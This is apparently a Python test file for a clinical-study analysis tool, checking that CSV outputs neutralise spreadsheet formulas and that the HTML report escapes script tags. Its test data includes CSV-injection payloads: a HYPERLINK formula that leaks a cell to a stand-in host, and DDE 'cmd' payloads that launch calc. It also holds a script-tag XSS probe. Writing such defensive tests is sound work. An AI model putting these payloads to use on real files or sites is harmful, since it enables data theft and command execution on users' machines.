"""CSV outputs are safe to open in a spreadsheet and the report shows text as text (issue 21.6:
ids such as `=HYPERLINK(...)` were written verbatim into predictions.csv, split.csv and the
staging and feature CSVs; a `<script>` level was mangled in the HTML report)."""
from __future__ import annotations

import csv

import pandas as pd
import pytest
import yaml

from dlr.cli import main
from dlr.core.csvsafe import is_number, neutral, neutral_frame, read_back, restored
from real_clinical_study import write_study

EVIL = ['=HYPERLINK("x.example?"&A1,"click")', "+cmd|' -c calc'!A0", "@SUM(1+1)", "-2+3+cmd|' -C calc'!A0"]
SCRIPT = "<script>alert(1)</script>"


@pytest.mark.parametrize("text", [*EVIL, "'=already quoted", "''", "'", "'a", "\tTAB", "\rCR", "=", "plain", ""])
def test_neutral_and_restored_are_inverse_and_neutral_text_never_starts_a_formula(text):
    written = neutral(text)
    assert restored(written) == text
    assert not written or written[0] not in "=+-@\t\r"


@pytest.mark.parametrize("number", ["-0.5", "+3", "-1e-3", "-inf", "12", "-7"])
def test_numbers_stay_numbers(number):
    assert neutral(number) == number and restored(number) == number


def test_frames_round_trip_cells_and_column_names():
    frame = pd.DataFrame({"patient_id": EVIL, "=col": [1.5, -2.0, 3.0, 4.0], "y": ["-1", "a", "b", "@c"]})
    back = read_back(neutral_frame(frame))
    pd.testing.assert_frame_equal(back, frame)
    assert neutral_frame(pd.DataFrame({"a": [1, 2]})).equals(pd.DataFrame({"a": [1, 2]}))


def _cells(path) -> list:
    with open(path, newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_a_run_with_formula_ids_writes_no_formula_and_reads_its_files_back(tmp_path, capsys):
    study = write_study(tmp_path / "study")
    clinical = pd.read_csv(study / "clinical.csv", dtype=str)
    clinical.loc[: len(EVIL) - 1, "patient_id"] = EVIL
    clinical.loc[clinical["hepatitis"] == "HCV only", "hepatitis"] = SCRIPT
    clinical.to_csv(study / "clinical.csv", index=False)
    config = yaml.safe_load((study / "study.yaml").read_text())
    for variable in config["variables"]:
        if variable["name"] == "hepatitis":
            variable["levels"] = [SCRIPT if v == "HCV only" else v for v in variable["levels"]]
    (study / "study.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
    run = tmp_path / "run"
    assert main(["run", str(study), "--out", str(run), "--bootstrap", "50", "--jobs", "1"]) == 0, \
        capsys.readouterr().err[-3000:]
    written = [p for p in run.rglob("*.csv") if "inputs" not in p.parts]
    assert len(written) > 10
    for path in written:
        for cell in _cells(path):
            assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and not is_number(cell)), (path, cell)
    predictions = pd.read_csv(run / "predictions.csv", dtype=str)
    assert {neutral(e) for e in EVIL} <= set(predictions["patient_id"])
    # read back as written: the split is reused, the analysis sees the study's ids
    capsys.readouterr()
    assert main(["run", str(study), "--out", str(run), "--bootstrap", "50", "--jobs", "1"]) == 0
    assert "[2/7] split: unchanged since the last run, skipped" in capsys.readouterr().err
    html = (run / "report" / "index.html").read_text()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and SCRIPT not in html
    package = tmp_path / "package.zip"
    assert main(["package", str(run), "--out", str(package)]) == 0, capsys.readouterr().err[-3000:]
    assert main(["verify", str(package)]) == 0, capsys.readouterr().err[-3000:]
